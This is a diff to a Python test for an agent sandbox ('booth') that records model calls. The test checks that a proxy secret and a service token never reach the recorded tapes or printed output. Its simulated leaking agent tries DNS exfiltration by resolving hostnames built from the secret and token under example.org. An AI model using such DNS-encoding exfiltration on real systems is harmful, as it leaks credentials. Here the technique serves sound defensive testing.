@@ -20,7 +20,13 @@ from jukebox.llm.server import ProxyServer
 from jukebox.redact import REDACTED
 from jukebox.tape.tape import Tape
 from shadowfs.store import Store
-from tests.booth.conftest import NOBODY, nobody_python, run_py  # noqa: F401 (a fixture)
+from tests.booth.conftest import (  # noqa: F401 (fixtures)
+    NOBODY,
+    nobody_dir,
+    nobody_python,
+    open_dev_fuse,
+    run_py,
+)
 from tests.llm.conftest import OPENAI_KEY, Recording, clients
 from tests.llm.test_booth_llm import JUKEBOX, booth_env, run_cli
 from tests.llm.test_breaker_hook import ask
@@ -471,12 +477,21 @@ def test_max_scratch_caps_what_the_proxy_records(upstream: FakeUpstream, tmp_pat
 
 # An agent that spreads its base URLs (the proxy's secret in each) everywhere it can: its model
 # calls with both SDKs (a prompt, a header, a stream, a path no endpoint has), a checkpoint's
-# label and the rollback to it. The verifier prints them too, then fails, so that the booth
-# shows its output on stderr.
+# label and the rollback to it, the names it looks up under --net none (the secret as a label,
+# an operator's value in upper case and split over two labels), and a file outside the tree
+# (`--rw`) that the verifier prints, then fails, so that the booth shows its output on stderr.
 SPREADER = r"""
-import os, subprocess
+import os, socket, subprocess, sys
 import anthropic, openai
+side, cli = sys.argv[1:3]
 base, abase = os.environ["OPENAI_BASE_URL"], os.environ["ANTHROPIC_API_URL"]
+secret, token = base.split("/")[3], os.environ["MY_SERVICE_TOKEN"]
+for host in (secret + ".example.org", token.upper() + ".example.org",
+             token[:6] + "." + token[6:] + ".example.org"):
+    try:
+        socket.getaddrinfo(host, 443)
+    except socket.gaierror:
+        pass
 o = openai.OpenAI(max_retries=0, default_headers={"x-agent-note": base})
 a = anthropic.Anthropic(max_retries=0)
 say = [{"role": "user", "content": "mine: " + base + " " + abase}]
@@ -495,21 +510,49 @@ except openai.NotFoundError:
 label = "at " + base
 for step in (["checkpoint", "--label", label], ["rollback", "--to", label]):
     # Captured: the CLI tells its caller the label, which is the agent's own business.
-    subprocess.run(["jukebox", "booth", *step], check=True, capture_output=True)
+    subprocess.run([sys.executable, "-c", cli, "booth", *step], check=True, capture_output=True)
+with open(os.path.join(side, "base"), "w") as f:
+    f.write(base + "\n")
 """
-SPREADING_VERIFIER = "printenv OPENAI_BASE_URL ANTHROPIC_API_URL OPENAI_API_BASE; exit 1"
+CLI = "import sys; from jukebox.cli import main; sys.argv[0] = 'jukebox'; sys.exit(main())"
+# The proxies have stopped when the verifier runs: it gets none of their URLs, and the
+# operator's own OPENAI_BASE_URL back.
+SPREADING_VERIFIER = (
+    "printenv OPENAI_BASE_URL ANTHROPIC_API_URL OPENAI_API_BASE; cat {side}/base; exit 1"
+)
 
 
-@booths_as_root
+@pytest.mark.parametrize("user", ["root", "nobody"])
 def test_the_secret_reaches_no_byte_of_the_tape_dir_nor_the_booths_output(
-    upstream: FakeUpstream, tmp_path: Path
+    user: str, upstream: FakeUpstream, tmp_path: Path, request: pytest.FixtureRequest
 ) -> None:
-    tree, tapes = tmp_path / "tree", tmp_path / "tapes"
+    if os.geteuid() != 0:
+        pytest.skip("booths here run as root, and as nobody through setpriv")
+    env = {**booth_env(upstream), **ENV_VALUES}
+    python, as_user = sys.executable, None
+    work = tmp_path
+    if user == "nobody":
+        python = request.getfixturevalue("nobody_python")
+        work = request.getfixturevalue("nobody_dir")
+        request.getfixturevalue("open_dev_fuse")
+        as_user = NOBODY
+        env = {"PATH": "/usr/bin:/bin", "HOME": str(work),
+               **{k: env[k] for k in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "OPENAI_BASE_URL",
+                                      "ANTHROPIC_BASE_URL", *ENV_VALUES)}}  # fmt: skip
+    tree, tapes, side = work / "tree", work / "tapes", work / "side"
     tree.mkdir()
+    side.mkdir()
     (tree / "agent.py").write_text(SPREADER)
-    proc = run_cli("booth", "run", "--tree", str(tree), "--tape-dir", str(tapes),
-                   "--tape-id", "spread", "--verify", SPREADING_VERIFIER, "--",
-                   sys.executable, "agent.py", env=booth_env(upstream))  # fmt: skip
+    if as_user is not None:
+        for path in (tree, tree / "agent.py", side):
+            os.chown(path, as_user, as_user)
+    argv = [python, "-c", CLI, "booth", "run", "--net", "none", "--tree", str(tree),
+            "--tape-dir", str(tapes), "--tape-id", "spread", "--rw", str(side),
+            "--verify", SPREADING_VERIFIER.format(side=side), "--",
+            python, "agent.py", str(side), CLI]  # fmt: skip
+    if as_user is not None:
+        argv = ["setpriv", f"--reuid={as_user}", f"--regid={as_user}", "--clear-groups", *argv]
+    proc = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=120, cwd="/")
     assert proc.returncode == 1, proc.stderr  # the verifier failed
     # The upstream got the agent's header as sent (only the record is scrubbed): the secret.
     (base,) = {v for _, _, h, _ in upstream.seen for k, v in h.items() if k == "x-agent-note"}
@@ -528,12 +571,21 @@ def test_the_secret_reaches_no_byte_of_the_tape_dir_nor_the_booths_output(
     (checkpoint,) = [p for kind, p in frames if kind == "checkpoint"]
     (rollback,) = [p for kind, p in frames if kind == "rollback" and not p.get("final")]
     assert checkpoint["label"] == rollback["label"] == f"at {base.replace(secret, REDACTED)}"
+    looked_up = [p["host"] for kind, p in frames if kind == "note"
+                 and p["event"] == "lookup_refused"]  # fmt: skip
+    assert looked_up == [f"{REDACTED}.example.org"] * 3
+    assert sum(f"looked up {REDACTED}.example.org" in line
+               for line in proc.stderr.splitlines()) == 3  # fmt: skip
     (verify,) = [p for kind, p in frames if kind == "verify"]
-    assert verify["output"].count(REDACTED) == 3
-    assert f"/{REDACTED}/anthropic" in proc.stderr  # the failed verifier's output, shown
+    assert verify["output"].splitlines() == [
+        upstream.openai_url, base.replace(secret, REDACTED)
+    ]
+    assert f"/{REDACTED}/openai/v1" in proc.stderr  # the failed verifier's output, shown
     # Not one byte: every file of the tape dir as it lies on disk, every stored object
-    # decompressed, and all the booth printed.
+    # decompressed, and all the booth printed; nor in lower case, as a resolver may send it.
     on_disk = b"".join(p.read_bytes() for p in tapes.rglob("*") if p.is_file())
     printed = {"stdout": proc.stdout.encode(), "stderr": proc.stderr.encode()}
+    token = ENV_VALUES["MY_SERVICE_TOKEN"]
     for where, data in {"tape dir": on_disk, "objects": objects, **printed}.items():
-        assert secret.encode() not in data, where
+        for value in (secret, secret.lower(), token, token[6:]):
+            assert value.encode() not in data, (where, value)
